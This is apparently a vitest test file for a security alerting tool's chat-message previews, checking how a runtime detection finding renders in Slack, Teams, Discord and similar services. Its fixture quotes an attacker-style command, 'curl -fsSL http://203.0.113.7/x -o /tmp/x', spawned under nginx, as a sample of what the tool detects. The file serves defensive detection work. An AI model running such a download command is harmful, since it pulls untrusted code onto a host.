import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { preview } from '../../src/deliver/preview.ts';
import { fixture } from '../support/fixtures.ts';

/** The preview of a golden body. */
function shown(format: string, parcel: string): string[] | undefined {
  const file = fixture(`formats/${format}.${parcel}.json`);
  return preview(JSON.stringify((JSON.parse(readFileSync(file, 'utf8')) as { body: unknown }).body));
}

const chats = ['slack', 'teams', 'discord', 'google-chat', 'pagerduty', 'alertmanager'];

describe('the preview of a message', () => {
  it.each(chats)(
    'of %s holds what, where, why, the ancestors, the image, the next step and the link',
    (chat) => {
      const text = shown(chat, 'finding')!.join('\n');
      for (const fact of [
        'curl in shop/web-7d9f (registry.example/shop/web:1.4.2)',
        'curl -fsSL http://203.0.113.7/x -o /tmp/x',
        'web-7d9f',
        'its output goes to /tmp',
        "nginx -g 'daemon off;'\n",
        '└─ sh -c',
        'registry.example/shop/web:1.4.2',
        'kubectl -n shop exec web-7d9f -- ps auxf',
        'https://lanner.example/findings/f-1a2b3c',
      ])
        expect(text).toContain(fact);
    },
  );

  it.each(chats)('of %s shows text, not the markup of the vendor', (chat) => {
    for (const parcel of ['finding', 'group', 'bare', 'notice_started', 'notice_ended']) {
      const text = shown(chat, parcel)!.join('\n');
      expect(text.trim()).not.toBe('');
      expect(text).not.toMatch(/&(amp|lt|gt|nbsp|#39);|<br>|```|\\[()]|^\*|\[object/m);
    }
  });

  it('of Slack reads as a person sees it', () => {
    expect(shown('slack', 'finding')).toEqual([
      '🟠 HIGH  curl in shop/web-7d9f (registry.example/shop/web:1.4.2)',
      '',
      'Command  curl -fsSL http://203.0.113.7/x -o /tmp/x',
      'Where  shop/web-7d9f · container web · node node-1 · cluster prod-eu',
      'Image  registry.example/shop/web:1.4.2',
      'Workload  Deployment web',
      'User  www-data, uid 33',
      'Time  2026-11-22T12:00:00.123456789Z',
      'ATT&CK  T1105, T1190',
      '',
      'Why',
      '• curl was started by a shell that the web server started',
      '• its output goes to /tmp',
      '',
      'Ancestors',
      "nginx -g 'daemon off;'",
      "└─ sh -c 'curl -fsSL http://203.0.113.7/x -o /tmp/x'",
      '  └─ curl -fsSL http://203.0.113.7/x -o /tmp/x',
      '',
      'Next',
      '1. Look at what runs in the pod.',
      'kubectl -n shop exec web-7d9f -- ps auxf',
      '2. Keep the file before the pod ends.',
      '',
      'Open in Lanner: https://lanner.example/findings/f-1a2b3c',
    ]);
  });

  it.each(['slack', 'teams', 'discord', 'google-chat'])('of %s has no heading without text', (chat) => {
    expect(shown(chat, 'notice_started')!.join('\n')).not.toMatch(/Ancestors|Next/);
    expect(shown(chat, 'bare')!.join('\n')).not.toMatch(/Ancestors|Next|Why/);
  });

  it('tells an end from a start', () => {
    expect(shown('pagerduty', 'notice_ended')![0]).toMatch(/^resolve: Over: /);
    expect(shown('slack', 'notice_ended')![0]).toContain('Over: ');
    expect(shown('slack', 'notice_started')![0]).not.toContain('Over: ');
  });

  const others = readdirSync(fixture('formats')).map((file) => file.split('.')[0]!);
  it.each([...new Set(others)].filter((one) => !chats.includes(one)))(
    'is not made of %s, which is for machines',
    (format) => {
      expect(shown(format, 'finding')).toBeUndefined();
    },
  );

  it('throws on nothing, whatever the body', () => {
    const keys = [
      'blocks',
      'attachments',
      'embeds',
      'cardsV2',
      'content',
      'body',
      'text',
      'fields',
      'payload',
    ];
    const key = fc.oneof(fc.constantFrom(...keys), fc.string());
    const { tree } = fc.letrec((tie) => ({
      tree: fc.oneof(
        { maxDepth: 6 },
        fc.jsonValue({ maxDepth: 1 }),
        fc.array(tie('tree'), { maxLength: 3 }),
        fc.dictionary(key, tie('tree'), { maxKeys: 3 }),
      ),
    }));
    fc.assert(
      fc.property(
        fc.oneof(
          tree.map((value) => JSON.stringify(value)),
          fc.string(),
        ),
        (body) => {
          const lines = preview(body);
          expect(lines === undefined || lines.every((line) => !line.includes('\n'))).toBe(true);
        },
      ),
      { numRuns: 300 },
    );
  });
});
